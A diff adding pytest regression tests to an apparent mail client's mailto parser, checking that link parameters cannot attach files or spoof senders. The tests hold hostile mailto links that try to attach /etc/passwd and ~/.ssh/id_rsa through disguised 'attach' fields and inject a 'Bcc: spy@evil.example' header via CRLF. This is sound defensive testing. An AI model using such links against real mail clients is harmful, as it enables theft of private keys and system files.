@@ -8,7 +8,8 @@ import pytest
 
 from app.errors import ErrorKind, MailError
 from app.mime.filename import safe_name, unique_path
-from app.mime.mailto import parse
+from app.mime.mailto import MailtoRequest, parse
+from app.mime.wordset import words
 from app.model.message import Address
 
 
@@ -63,3 +64,19 @@ def test_unique_path_never_meets_what_is_there(tmp_path: Path) -> None:
     assert unique_path(tmp_path, "../../x").parent == tmp_path
     (tmp_path / "noext").mkdir()
     assert unique_path(tmp_path, "noext") == tmp_path / "noext (2)"
+
+
+@pytest.mark.parametrize("field", sorted(words(
+    "attach attachment Attach inline from sender reply-to in-reply-to references x-depesche-to organization message-id "
+    "content-type disposition-notification-to html signature identity template resent-bcc %61ttach attach%00 cid")))
+def test_no_other_field_of_a_link_counts(field: str) -> None:
+    """Mailto: Me Your Secrets (2020): nothing is attached, and nobody is sent as, because a link says so."""
+    request = parse(f"mailto:a@b.example?{field}=/etc/passwd&{field}=~/.ssh/id_rsa&subject=x")
+    assert request == MailtoRequest(to=(Address("", "a@b.example"),), subject="x")
+
+
+def test_a_links_body_is_text_and_cannot_end_the_header() -> None:
+    request = parse("mailto:a@b.example?subject=x%0d%0aBcc:%20spy@evil.example&body=%3Cimg%20src=file:///etc/passwd%3E"
+                    "%0d%0a%0d%0aBcc:%20spy@evil.example")
+    assert "\n" not in request.subject and "\r" not in request.subject
+    assert request.bcc == () and "<img src=file:///etc/passwd>" in request.body
